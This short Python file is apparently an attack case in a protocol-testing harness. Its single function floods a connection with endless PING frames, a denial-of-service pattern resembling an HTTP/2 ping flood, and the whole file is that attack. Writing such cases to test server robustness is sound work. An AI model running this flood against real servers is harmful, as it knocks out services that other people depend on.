"""Sends PING frames without an end."""

from wire import PING, frame, serve


def attack(wire, ask) -> None:
    wire.flood(frame(PING, 0, 0, bytes(8)))


serve(attack)
